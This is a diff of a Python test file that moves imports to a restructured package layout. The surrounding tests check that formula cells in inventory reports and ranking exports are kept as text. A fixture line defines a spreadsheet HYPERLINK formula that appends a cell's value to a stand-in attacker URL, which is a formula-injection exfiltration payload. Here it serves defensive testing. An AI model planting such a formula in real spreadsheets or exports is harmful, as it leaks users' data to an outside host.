@@ -12,8 +12,8 @@ import yaml
 from openpyxl import load_workbook
 
 from collectors.inventory import import_file, load_rules, write_report
-from wall.plan import load_plan
-from wall.plan.loader import DEFAULT_PLAN_PATH
+from wall.core.plan import load_plan
+from wall.core.plan.loader import DEFAULT_PLAN_PATH
 
 EVIL = '=HYPERLINK("http://ev.il/?"&B2,"详情")'
 LIVE = ("=", "+", "-", "@", "\t", "\r")
@@ -45,10 +45,10 @@ def test_a_rejected_row_holding_a_formula_is_text_in_the_report(tmp_path):
 
 
 def test_the_ranking_export_keeps_names_as_text(tmp_path):
-    from wall.app import create_app
-    from wall.settings import Settings
+    from wall.core.settings import Settings
     from wall.store import open_store
     from wall.store.samples import Sample
+    from wall.web.app import create_app
 
     plan = yaml.safe_load(DEFAULT_PLAN_PATH.read_text(encoding="utf-8"))
     for node in plan["nodes"]:
